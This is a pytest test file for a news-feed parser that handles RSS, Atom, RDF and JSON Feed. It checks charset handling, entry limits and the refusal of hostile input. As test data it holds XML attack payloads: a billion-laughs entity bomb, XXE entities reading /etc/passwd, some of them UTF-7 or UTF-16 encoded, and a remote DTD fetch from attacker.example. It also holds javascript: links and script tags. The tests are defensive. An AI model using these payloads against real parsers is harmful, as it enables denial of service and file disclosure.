"""Feed parsing: RSS 2.0, Atom 1.0 and RSS 1.0, hostile and broken documents, charsets, limits."""

from __future__ import annotations

import time
from datetime import UTC, datetime
from pathlib import Path

import feedparser
import pytest

from ingest import feeds
from ingest.feeds import FeedEntry, FeedParseError, html_to_text, normalize_language, parse_feed
from newswire.errors import NewswireError

DATA = Path(__file__).parent / "data"
NOW = datetime(2024, 12, 1, 12, 0, tzinfo=UTC)
RSS_URL = "https://www.quotidien-soir.fr/international/rss.xml"
ATOM_URL = "https://www.harbourgazette.co.uk/business/atom.xml"


def parse_fixture(name: str, url: str, **kwargs: object) -> feeds.ParsedFeed:
    return parse_feed((DATA / name).read_bytes(), url=url, now=NOW, **kwargs)  # type: ignore[arg-type]


def rss(items: bytes, *, prolog: bytes = b"") -> bytes:
    """A minimal RSS 2.0 document around ``items``."""
    return prolog + b'<rss version="2.0"><channel><title>T</title>' + items + b"</channel></rss>"


def reason_of(content: bytes, **kwargs: object) -> str:
    with pytest.raises(FeedParseError) as info:
        parse_feed(content, url="https://feeds.example.com/feed", now=NOW, **kwargs)  # type: ignore[arg-type]
    assert isinstance(info.value, NewswireError)
    return info.value.reason


# -- the three formats -----------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def rss_feed() -> feeds.ParsedFeed:
    return parse_fixture("rss20.xml", RSS_URL, content_type="application/rss+xml; charset=utf-8")


class TestRss20:
    def test_channel(self, rss_feed: feeds.ParsedFeed) -> None:
        assert rss_feed.format == "rss20"
        assert rss_feed.title == "Le Quotidien du Soir - International"
        assert rss_feed.link == "https://www.quotidien-soir.fr/international/"
        assert rss_feed.language == "fr"
        assert rss_feed.next_url == "https://www.quotidien-soir.fr/international/rss.xml?page=2"
        assert rss_feed.prev_archive_url is None

    def test_full_entry(self, rss_feed: feeds.ParsedFeed) -> None:
        entry = rss_feed.entries[0]
        assert entry.title == "Syrie : l’opposition prend le contrôle de Khan al-Assal"
        assert entry.link == (
            "https://www.quotidien-soir.fr/international/article/2024/11/28/syrie-khan-al-assal_6417.html?xtor=RSS-3208"
        )
        assert entry.guid == (
            "https://www.quotidien-soir.fr/international/article/2024/11/28/syrie-khan-al-assal_6417.html"
        )
        assert (
            entry.summary
            == "Les factions de l’opposition syrienne ont pris jeudi la ville stratégique. 12 civils tués."
        )
        assert entry.published == datetime(2024, 11, 28, 9, 31, tzinfo=UTC)
        assert entry.updated is None  # RSS has no separate update date: not copied from pubDate
        assert entry.author == "Service International"
        assert entry.tags == ("Syrie", "Moyen-Orient")
        assert entry.language == "fr"
        # identity: canonical link, tracking parameter gone
        assert entry.key == entry.guid

    def test_relative_link_resolved_against_feed_url(self, rss_feed: feeds.ParsedFeed) -> None:
        entry = rss_feed.entries[1]
        assert entry.link == "https://www.quotidien-soir.fr/international/article/2024/11/28/ukraine-drones_6418.html"
        assert entry.guid == "qds-6418"
        assert entry.published == datetime(2024, 11, 28, 8, 2, tzinfo=UTC)

    def test_entry_without_link_keeps_guid_as_key(self, rss_feed: feeds.ParsedFeed) -> None:
        entry = rss_feed.entries[2]
        assert entry.link is None
        assert entry.key == "qds-breve-991"

    def test_far_future_date_dropped_with_warning(self, rss_feed: feeds.ParsedFeed) -> None:
        entry = rss_feed.entries[3]
        assert entry.title == "Article daté dans le futur"
        assert entry.published is None
        assert any("entry 4" in w and "future" in w for w in rss_feed.warnings)

    def test_entry_without_link_guid_or_title_is_kept_for_the_ledger(self, rss_feed: feeds.ParsedFeed) -> None:
        # Ingest records it as skipped (no_identity): every item of the feed is accounted for.
        assert len(rss_feed.entries) == 6
        entry = rss_feed.entries[4]
        assert (entry.link, entry.guid, entry.title) == (None, None, None)
        assert entry.summary == "Un élément sans titre, sans lien et sans identifiant."
        assert entry.key.startswith("hash:")

    def test_javascript_link_dropped(self, rss_feed: feeds.ParsedFeed) -> None:
        entry = rss_feed.entries[5]
        assert entry.title == "Lien piégé"
        assert entry.link is None
        assert entry.key.startswith("hash:")
        assert any("non-web link" in w for w in rss_feed.warnings)


@pytest.fixture(scope="module")
def atom_feed() -> feeds.ParsedFeed:
    return parse_fixture("atom10.xml", ATOM_URL, content_type="application/atom+xml")


class TestAtom10:
    def test_feed_level(self, atom_feed: feeds.ParsedFeed) -> None:
        assert atom_feed.format == "atom10"
        assert atom_feed.title == "Business & Economy – The Harbour Gazette"
        assert atom_feed.link == "https://www.harbourgazette.co.uk/business"
        assert atom_feed.language == "en"
        assert atom_feed.prev_archive_url == "https://www.harbourgazette.co.uk/business/archive/2024-02.xml"
        assert atom_feed.warnings == ()

    def test_entry_resolved_against_xml_base(self, atom_feed: feeds.ParsedFeed) -> None:
        entry = atom_feed.entries[0]
        assert entry.link == "https://www.harbourgazette.co.uk/business/2024/03/14/port-workers-strike-automation"
        assert entry.guid == "tag:harbourgazette.co.uk,2024:article-88213"
        assert entry.key == entry.link

    def test_entry_fields(self, atom_feed: feeds.ParsedFeed) -> None:
        entry = atom_feed.entries[0]
        assert entry.published == datetime(2024, 3, 14, 7, 45, tzinfo=UTC)
        assert entry.updated == datetime(2024, 3, 14, 11, 2, tzinfo=UTC)
        assert entry.author == "Morag Pennington"
        assert entry.tags == ("Strikes", "shipping")
        assert entry.summary == "Dock workers at three ports walked out on Thursday."  # script removed
        assert entry.language == "en"

    def test_xhtml_title_content_summary_and_entry_language(self, atom_feed: feeds.ParsedFeed) -> None:
        entry = atom_feed.entries[1]
        assert entry.title == "Gweithwyr porthladd ar streic"
        assert entry.summary == "Fersiwn Gymraeg o'r stori."
        assert entry.language == "cy"
        # only <updated>: published falls back to it, converted to UTC
        assert entry.published == entry.updated == datetime(2024, 3, 14, 8, 0, tzinfo=UTC)


@pytest.fixture(scope="module")
def rdf_feed() -> feeds.ParsedFeed:
    return parse_fixture("rss10.rdf", "https://science.example.net/rss", content_type="application/rdf+xml")


class TestRss10:
    def test_rdf_feed(self, rdf_feed: feeds.ParsedFeed) -> None:
        assert rdf_feed.format == "rss10"
        assert rdf_feed.title == "Science Wire"
        assert rdf_feed.language == "en"
        assert [e.title for e in rdf_feed.entries] == [
            "Probe images comet at closest approach",
            "Coral survey finds partial recovery",
        ]

    def test_dc_elements(self, rdf_feed: feeds.ParsedFeed) -> None:
        first, second = rdf_feed.entries
        assert first.published == datetime(2024, 5, 2, 12, 20, tzinfo=UTC)  # dc:date with offset
        assert first.author == "A. Reporter"
        assert first.tags == ("Astronomy",)
        assert first.link == "https://science.example.net/news/2024/05/02/comet-flyby"
        assert second.published == datetime(2024, 5, 1, tzinfo=UTC)  # date-only dc:date
        assert second.summary is None


# -- valid edge cases ------------------------------------------------------------------------------------


def test_feed_with_zero_entries_is_not_an_error() -> None:
    content = b'<?xml version="1.0"?><rss version="2.0"><channel><title>Quiet</title></channel></rss>'
    feed = parse_feed(content, url="https://example.com/rss", content_type="application/rss+xml")
    assert feed.entries == ()
    assert feed.title == "Quiet"
    assert feed.warnings == ()


def test_max_entries_truncates_with_warning() -> None:
    items = "".join(f"<item><title>Story {i}</title><link>/s/{i}</link></item>" for i in range(50))
    content = f'<rss version="2.0"><channel><title>Busy</title>{items}</channel></rss>'.encode()
    feed = parse_feed(content, url="https://example.com/rss", max_entries=10)
    assert [e.title for e in feed.entries] == [f"Story {i}" for i in range(10)]
    assert any("10 of 50" in w for w in feed.warnings)
    with pytest.raises(ValueError):
        parse_feed(content, url="https://example.com/rss", max_entries=0)


def test_recoverable_breakage_becomes_a_warning() -> None:
    content = rss(b"<item><title>A <b>bold</title><link>/a</link></item>")
    feed = parse_feed(content, url="https://example.com/rss", content_type="application/rss+xml")
    assert feed.format == "rss20"
    assert feed.entries[0].link == "https://example.com/a"
    assert any(w.startswith("bozo: ") and "mismatched tag" in w for w in feed.warnings)


def test_feed_served_as_text_html_is_still_parsed() -> None:
    content = (
        b'<rss version="2.0"><channel><title>T</title><item><title>A</title><link>/a</link></item></channel></rss>'
    )
    feed = parse_feed(content, url="https://example.com/rss", content_type="text/html; charset=utf-8")
    assert [e.link for e in feed.entries] == ["https://example.com/a"]


def test_html_entities_in_rss_are_tolerated() -> None:
    content = rss(
        b"<item><title>Caf&eacute; &amp; th&eacute;</title><guid>1</guid></item>", prolog=b'<?xml version="1.0"?>'
    )
    feed = parse_feed(content, url="https://example.com/rss")
    assert feed.entries[0].title == "Café & thé"


def test_entry_key_falls_back_to_text_hash() -> None:
    def entry(title: str | None, summary: str | None) -> FeedEntry:
        return FeedEntry(None, None, title, summary, None, None, None, (), None)

    assert entry("A", "b").key == entry("A", "b").key
    assert entry("A", "b").key != entry("A", "c").key
    assert entry("A", "b").key.startswith("hash:") and len(entry("A", "b").key) == 5 + 32


# -- charsets --------------------------------------------------------------------------------------------

LATIN1_TITLE = "Été à Montréal : « grève » générale"


def test_latin1_feed_declared_as_utf8_is_decoded_as_windows_1252() -> None:
    xml = (
        '<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Québec Matin</title>'
        f"<item><title>{LATIN1_TITLE}</title><link>https://example.ca/a</link></item></channel></rss>"
    )
    content = xml.encode("cp1252")
    feed = parse_feed(content, url="https://example.ca/rss", content_type="application/rss+xml; charset=utf-8")
    assert feed.title == "Québec Matin"
    assert feed.entries[0].title == LATIN1_TITLE
    assert any("windows-1252" in w for w in feed.warnings)


def test_content_type_charset_used_when_xml_declares_none() -> None:
    content = rss(f"<item><title>{LATIN1_TITLE}</title><guid>1</guid></item>".encode("iso-8859-1"))
    feed = parse_feed(content, url="https://example.ca/rss", content_type="application/xml; charset=ISO-8859-1")
    assert feed.entries[0].title == LATIN1_TITLE
    assert feed.warnings == ()


def test_utf16_feed_with_bom() -> None:
    item = f"<item><title>{LATIN1_TITLE}</title><guid>1</guid></item>".encode()
    content = rss(item, prolog=b'<?xml version="1.0" encoding="utf-16"?>').decode().encode("utf-16")
    feed = parse_feed(content, url="https://example.ca/rss")
    assert feed.entries[0].title == LATIN1_TITLE


# -- refusals --------------------------------------------------------------------------------------------


@pytest.mark.parametrize("content", [b"", b"   \n\t  ", b"\xef\xbb\xbf  \n"])
def test_empty_content_refused(content: bytes) -> None:
    assert reason_of(content) == "empty_feed"


HTML_PAGE = b"""<!DOCTYPE html>
<html lang="en"><head><title>Page not found</title>
<link rel="alternate" type="application/rss+xml" href="/rss"></head>
<body><h1>Sorry</h1><p>Our feeds have moved.</p></body></html>"""


@pytest.mark.parametrize(
    ("content", "content_type"),
    [
        (HTML_PAGE, "text/html; charset=utf-8"),
        (HTML_PAGE, "application/rss+xml"),  # server lies about the type
        (b"\xef\xbb\xbf\n<!-- cached 12:00 -->\n<!doctype html><html><body>x</body></html>", None),
        (b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body><p>x</p></body></html>', None),
        (b"<html><head><title>Just a moment...</title></head><body>Checking your browser</body></html>", None),
    ],
)
def test_html_page_served_as_feed_refused(content: bytes, content_type: str | None) -> None:
    assert reason_of(content, content_type=content_type) == "not_a_feed"


@pytest.mark.parametrize(
    "content",
    [
        b"This is not a feed at all.",
        b'{"version": "2.0", "items": []}',  # JSON, but not a JSON Feed
        b'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"><url><loc>https://e.com/</loc></url></urlset>',
        b"/etc/passwd",  # would be opened as a file by a careless feedparser.parse(str)
    ],
)
def test_non_feed_documents_refused(content: bytes) -> None:
    assert reason_of(content) == "not_a_feed"


def test_hopelessly_broken_xml_refused() -> None:
    assert reason_of(b'<?xml version="1.0"?>\n<x<y>>><<< </rss') == "invalid_xml"


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title><item><title>&lol9;</title></item></channel></rss>"""

XXE = b"""<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&xxe;</title><item><title>&xxe;</title><link>https://e.com/a</link></item></channel></rss>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>x</title></channel></rss>"""


@pytest.fixture
def feedparser_must_not_run(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("feedparser saw a document that declares entities")

    monkeypatch.setattr(feedparser, "parse", refuse)


@pytest.mark.usefixtures("feedparser_must_not_run")
@pytest.mark.parametrize(
    "content",
    [
        BILLION_LAUGHS,
        XXE,
        PARAMETER_ENTITY,
        XXE.decode().replace('encoding="utf-8"', 'encoding="utf-16"').encode("utf-16"),
        XXE.decode().replace('encoding="utf-8"', 'encoding="utf-16"').encode("utf-16-be"),  # no BOM
        b'<?xml version="1.0" encoding="utf-7"?>+ADw-!DOCTYPE x +AFs-+ADw-!ENTITY a SYSTEM +ACI-file:///etc/passwd+ACI-+AD4-+AF0-+AD4-<rss/>',
        # hidden after a comment that contains a fake root element
        b'<?xml version="1.0"?><!-- <rss> --><!DOCTYPE rss [<!ENTITY a "b">]><rss version="2.0"/>',
    ],
)
def test_entity_declarations_refused_before_parsing(content: bytes) -> None:
    started = time.perf_counter()
    assert reason_of(content) == "entity_declaration"
    assert time.perf_counter() - started < 0.5


@pytest.mark.usefixtures("feedparser_must_not_run")
def test_entity_declaration_via_utf7_content_type_refused() -> None:
    content = b"+ADw-!DOCTYPE x +AFs-+ADw-!ENTITY a +ACI-b+ACI-+AD4-+AF0-+AD4-<rss version=+ACI-2.0+ACI-/>"
    assert reason_of(content, content_type="application/xml; charset=utf-7") == "entity_declaration"


def test_entity_text_inside_cdata_is_not_a_declaration() -> None:
    content = b"""<?xml version="1.0"?><rss version="2.0"><channel><title>XML tips</title>
<item><title>Entities explained</title><link>https://e.com/xml</link>
<description><![CDATA[<p>Never accept <!ENTITY declarations from strangers.</p>]]></description></item>
</channel></rss>"""
    feed = parse_feed(content, url="https://e.com/rss")
    assert feed.entries[0].title == "Entities explained"


def test_netscape_doctype_without_entities_is_accepted() -> None:
    content = b"""<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old</title><link>http://old.example.com/</link>
<item><title>Legacy</title><link>http://old.example.com/1</link></item></channel></rss>"""
    feed = parse_feed(content, url="http://old.example.com/rss")
    assert feed.format.startswith("rss09")
    assert [e.link for e in feed.entries] == ["http://old.example.com/1"]


# -- helpers ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [("fr-FR", "fr"), ("EN", "en"), ("en_us", "en"), ("pt-BR, en", "pt"), ("fil", "fil"), ("", None),
     ("English", None), ("*", None), (None, None), (42, None)],
)  # fmt: skip
def test_normalize_language(value: object, expected: str | None) -> None:
    assert normalize_language(value) == expected


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ("<p>First paragraph.</p><p>Second.</p>", "First paragraph. Second."),
        ("line<br>break", "line break"),
        ("<ul><li>one</li><li>two</li></ul>", "one two"),
        ("Caf&eacute; &amp; <b>th&eacute;</b>", "Café & thé"),
        ("<p>Text<script>alert(1)</script> after</p>", "Text after"),
        ("plain   text\n here", "plain text here"),
        ("", ""),
    ],
)
def test_html_to_text(markup: str, expected: str) -> None:
    assert html_to_text(markup) == expected


# -- declared types and JSON Feed ------------------------------------------------------------------------


@pytest.mark.parametrize("content_type", ["text/rss+xml", "application/xml-dtd", "text/plain; charset=utf-8"])
def test_feed_under_an_odd_declared_type_is_parsed_with_a_warning(content_type: str) -> None:
    feed = parse_feed(rss(b"<item><title>A</title><link>/a</link></item>"), url=RSS_URL, content_type=content_type)
    assert [e.title for e in feed.entries] == ["A"]
    declared = content_type.partition(";")[0]
    assert feed.warnings == (f"declared Content-Type '{declared}' is not a feed type; parsed as rss20 by its content",)


def test_feed_under_a_feed_type_has_no_type_warning() -> None:
    feed = parse_feed(rss(b"<item><title>A</title></item>"), url=RSS_URL, content_type="application/rss+xml")
    assert feed.warnings == ()


JSON_FEED_11 = b"""{
  "version": "https://jsonfeed.org/version/1.1",
  "title": "Harbour &amp; Co",
  "home_page_url": "https://harbour.example/",
  "next_url": "https://harbour.example/feed.json?page=2",
  "language": "en-GB",
  "items": [
    {"id": "2", "url": "https://harbour.example/2", "title": "Ferry strike ends",
     "content_html": "<p>The <b>ferry</b> strike ended.</p>", "date_published": "2024-11-30T08:15:00+01:00",
     "date_modified": "2024-11-30T09:00:00Z", "authors": [{"name": "A. Writer"}], "tags": ["ferry", "Ferry", "strike"]},
    {"id": 3, "external_url": "https://elsewhere.example/story", "content_text": "Link-blog item.",
     "language": "fr-FR", "date_published": "2099-01-01T00:00:00Z"},
    {"id": "4", "url": "javascript:alert(1)", "summary": "Bad link"},
    {"content_text": "Only some text."},
    "not an object"
  ]
}"""


def test_json_feed_1_1_maps_every_field() -> None:
    feed = parse_feed(
        JSON_FEED_11, url="https://harbour.example/feed.json", content_type="application/feed+json", now=NOW
    )
    assert (feed.format, feed.title, feed.link, feed.language) == (
        "jsonfeed11",
        "Harbour & Co",
        "https://harbour.example/",
        "en",
    )
    assert feed.next_url == "https://harbour.example/feed.json?page=2"
    first, linkblog, bad, bare = feed.entries
    assert (first.guid, first.link, first.title, first.summary) == (
        "2",
        "https://harbour.example/2",
        "Ferry strike ends",
        "The ferry strike ended.",
    )
    assert first.published == datetime(2024, 11, 30, 7, 15, tzinfo=UTC)
    assert first.updated == datetime(2024, 11, 30, 9, 0, tzinfo=UTC)
    assert (first.author, first.tags, first.language) == ("A. Writer", ("ferry", "strike"), "en")
    assert (linkblog.guid, linkblog.link, linkblog.summary, linkblog.language) == (
        "3",
        "https://elsewhere.example/story",
        "Link-blog item.",
        "fr",
    )
    assert linkblog.published is None  # 2099: distrusted, as in XML feeds
    assert (bad.guid, bad.link, bad.summary) == ("4", None, "Bad link")
    assert (bare.guid, bare.link, bare.title, bare.key[:5]) == (None, None, None, "hash:")  # no_identity at ingest
    assert any("entry 2" in w and "future" in w for w in feed.warnings)
    assert any("entry 3: ignored non-web url" in w for w in feed.warnings)
    assert "entry 5: not a JSON object; ignored" in feed.warnings


def test_json_feed_1_0_with_author_object() -> None:
    doc = (
        b'{"version": "https://jsonfeed.org/version/1", "title": "T", "items": [{"id": "a", "url": "https://e.com/a",'
        b' "title": "A", "author": {"name": "Old Style"}, "date_published": "2024-11-01T10:00:00-05:00"}]}'
    )
    feed = parse_feed(doc, url="https://e.com/feed.json", content_type="application/json", now=NOW)
    assert feed.format == "jsonfeed10" and feed.warnings == ()
    assert feed.entries[0].author == "Old Style"
    assert feed.entries[0].published == datetime(2024, 11, 1, 15, 0, tzinfo=UTC)


def test_json_feed_under_an_odd_type_is_parsed_with_a_warning() -> None:
    doc = b'{"version": "https://jsonfeed.org/version/1.1", "items": [{"id": "x", "url": "https://e.com/x"}]}'
    feed = parse_feed(doc, url="https://e.com/feed.json", content_type="text/plain")
    assert [e.link for e in feed.entries] == ["https://e.com/x"]
    assert feed.warnings == (
        "declared Content-Type 'text/plain' is not a feed type; parsed as jsonfeed11 by its content",
    )


@pytest.mark.parametrize("content", [b'{"version": "https://jsonfeed.org/version/1.1", "items": [', b"{" * 100_000])
def test_broken_json_is_refused(content: bytes) -> None:
    assert reason_of(content) == "invalid_json"


def test_json_feed_entries_are_truncated_with_a_warning() -> None:
    items = ",".join(f'{{"id": "{i}", "url": "https://e.com/{i}"}}' for i in range(30))
    doc = f'{{"version": "https://jsonfeed.org/version/1.1", "items": [{items}]}}'.encode()
    feed = parse_feed(doc, url="https://e.com/feed.json", max_entries=10)
    assert len(feed.entries) == 10 and "truncated to the first 10 of 30 entries" in feed.warnings
